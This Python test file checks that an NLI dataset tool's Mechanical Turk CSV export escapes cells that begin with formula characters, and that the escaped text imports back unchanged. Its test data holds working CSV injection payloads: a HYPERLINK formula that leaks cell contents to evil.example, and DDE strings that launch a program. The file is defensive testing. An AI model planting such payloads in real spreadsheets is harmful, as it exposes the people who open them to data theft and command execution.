"""The AMT batch CSV runs nothing in a spreadsheet: review items beginning `=HYPERLINK(`, `+cmd|`, `@SUM`,
`-`, a tab or a carriage return were written verbatim (formula injection); now such a cell starts with
`'`, and the worker's unchanged pre-filled text imports back as the original text (not a revision)."""

from __future__ import annotations

import csv

from nliforge.data.records import Record
from nliforge.review import crowd
from nliforge.review.csv_cells import from_spreadsheet, spreadsheet_safe
from test_review_crowd import fabricate_amt_results

TEXTS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
         "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already quoted", "''two quotes", "A plain premise."]
RECORDS = [Record(f"x{i}", text, f"Hypothesis of {i}.", None, "probe") for i, text in enumerate(TEXTS)] + \
    [Record("y0", "A plain premise.", "=HYPERLINK(\"http://evil.example\")", None, "probe")]


def test_safe_and_back_round_trip_every_start():
    for text in [*TEXTS, "", "'", "plain", "a=b"]:
        assert from_spreadsheet(spreadsheet_safe(text)) == text
        assert not spreadsheet_safe(text).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_no_exported_cell_starts_a_formula_and_import_gives_the_texts_back(tmp_path):
    batch = crowd.export_amt(RECORDS, tmp_path / "batch.csv", per_hit=5)
    with open(batch, newline="", encoding="utf-8") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")" in cells
    fabricate_amt_results(batch, tmp_path / "results.csv")   # workers keep the pre-filled texts
    judgements = crowd.import_amt(tmp_path / "results.csv", RECORDS)
    by_uid = {r.uid: r for r in RECORDS}
    assert len(judgements) == 2 * len(RECORDS)
    for j in judgements:
        assert (j.premise, j.hypothesis, j.revised) == (by_uid[j.uid].premise, by_uid[j.uid].hypothesis, False), j
